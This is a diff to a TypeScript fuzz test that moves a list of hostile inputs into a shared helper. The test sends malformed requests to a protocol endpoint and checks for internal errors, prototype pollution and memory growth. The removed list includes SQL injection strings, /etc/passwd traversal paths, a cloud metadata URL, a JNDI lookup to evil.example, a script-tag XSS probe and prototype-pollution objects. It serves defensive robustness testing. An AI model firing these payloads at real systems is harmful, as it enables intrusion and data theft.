@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
+import { createFuzz } from '../../support/fuzz.ts';
 import { heapUsed } from '../../support/setup/heap.ts';
 import { keyOf, send } from './endpoint.ts';
 import { type Stage, startStage } from './stage.ts';
@@ -8,87 +9,7 @@ const seed = Number(process.env.ARMATURE_FUZZ_SEED ?? 20261121);
 const total = 5000;
 const measuredFrom = 1000;
 
-/** Mulberry32: small, and the same everywhere. */
-function random(from: number): () => number {
-  let state = from >>> 0;
-  return () => {
-    state = (state + 0x6d2b79f5) >>> 0;
-    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
-    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
-    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
-  };
-}
-const next = random(seed);
-const pick = <T>(from: readonly T[]): T => {
-  const found = from[Math.floor(next() * from.length)];
-  if (found === undefined) throw new Error('nothing to pick from');
-  return found;
-};
-const nested = (depth: number): unknown =>
-  depth === 0 ? null : next() < 0.5 ? [nested(depth - 1)] : { a: nested(depth - 1) };
-const cursor = (...parts: unknown[]) => Buffer.from(JSON.stringify(parts)).toString('base64url');
-const uuid = '019bd5a3-1111-7111-8111-111111111111';
-
-const hostile: (() => unknown)[] = [
-  () => null,
-  () => true,
-  () => 0,
-  () => -1,
-  () => 1e308,
-  () => 2 ** 53,
-  () => 0.1,
-  () => '',
-  () => ' ',
-  () => 'x'.repeat(Math.floor(next() * 50_000)),
-  () => '\u0000',
-  () => `a\u0000b`,
-  () => '\ud800',
-  () => '\u202e\u2066 right to left',
-  () => '__proto__',
-  () => 'constructor',
-  () => `'; DROP TABLE "Run"; --`,
-  () => `" OR 1=1 --`,
-  () => '%_\\',
-  () => '../../../../etc/passwd',
-  () => '..%2f..%2fetc%2fpasswd',
-  () => 'file:///etc/passwd',
-  () => 'http://169.254.169.254/latest/meta-data',
-  () => '$\u007bjndi:ldap://evil.example/a}',
-  () => '{{run.id}}',
-  () => '<script>alert(1)</script>',
-  () => '0000-01-01T00:00:00Z',
-  () => '9999-12-31T23:59:59Z',
-  () => '+275760-09-13T00:00:00.000Z',
-  () => '2026-02-30T00:00:00Z',
-  () => uuid,
-  () => uuid.toUpperCase(),
-  () => '00000000-0000-0000-0000-000000000000',
-  () => 'ffffffff-ffff-ffff-ffff-ffffffffffff',
-  () => cursor('0000-01-01T00:00:00.000Z', uuid),
-  () => cursor('2026-01-01T00:00:00.000Z', "' OR 1=1"),
-  () => cursor(),
-  () => 'bm90IGEgY3Vyc29y',
-  () => [],
-  () => ({}),
-  () => Array.from({ length: 1000 }, () => 1),
-  () => nested(50),
-  () => JSON.parse('{"__proto__": {"polluted": true}}'),
-  () => ({ toString: 1, valueOf: null, hasOwnProperty: 'x' }),
-  () => ({ constructor: { prototype: { polluted: true } } }),
-];
-
-/** The value with something in it replaced, added or taken away. */
-function spoiled(value: unknown, depth = 0): unknown {
-  if (next() < 0.25 || typeof value !== 'object' || value === null) return pick(hostile)();
-  if (Array.isArray(value)) return value.map((item, index) => (index === 0 ? spoiled(item, depth + 1) : item));
-  const entries = Object.entries(value);
-  const [name, inner] = entries.length > 0 ? pick(entries) : ['a', null];
-  const act = next();
-  if (act < 0.15) return Object.fromEntries(entries.filter(([key]) => key !== name));
-  if (act < 0.3)
-    return { ...value, [pick(['__proto__', 'constructor', 'limit', 'x\u0000', 'cursor', 'wait'])]: pick(hostile)() };
-  return { ...value, [name]: spoiled(inner, depth + 1) };
-}
+const { cursor, hostile, next, pick, spoiled, uuid } = createFuzz(seed);
 
 type Message = { method: string; params: unknown };
 
@@ -215,20 +136,11 @@ describe(`${total} hostile requests (ARMATURE_FUZZ_SEED=${seed})`, () => {
     const one = async (): Promise<void> => {
       const body = bodyOf(messages);
       const version =
-        next() < 0.1
-          ? (JSON.stringify(pick(hostile)()) ?? '').replaceAll(/[^\x20-\x7e]/g, '').slice(0, 50)
-          : '2025-11-25';
+        next() < 0.1 ? (JSON.stringify(hostile()) ?? '').replaceAll(/[^\x20-\x7e]/g, '').slice(0, 50) : '2025-11-25';
       const answer = await send(stage.endpoint.url, { key, body, headers: { 'mcp-protocol-version': version || 'x' } });
       const read = answered.safeParse(answer.body);
       const noted = answer.status === 202 && answer.body === undefined;
-      const fine =
-        noted ||
-        (answer.status < 500 &&
-          read.success &&
-          !(
-            'error' in read.data &&
-            (read.data.error.code === -32603 || read.data.error.message.includes('internal_error'))
-          ));
+      const fine = noted || (answer.status < 500 && read.success && !/internal_error|"code":-32603/.test(answer.text));
       if (!fine) odd.push(`${answer.status} ${answer.text.slice(0, 400)}\n    to ${body.slice(0, 600)}`);
     };
     while (sent < total) {
@@ -238,6 +150,7 @@ describe(`${total} hostile requests (ARMATURE_FUZZ_SEED=${seed})`, () => {
     }
     expect(odd.slice(0, 10)).toEqual([]);
     expect(Object.prototype).not.toHaveProperty('polluted');
-    expect(heapUsed() / before).toBeLessThan(1.1);
+    // Finalizers, such as those of `fetch`, run some time after a collection, and release more for the next.
+    await expect.poll(() => heapUsed() / before, { interval: 300, timeout: 30_000 }).toBeLessThan(1.1);
   });
 });
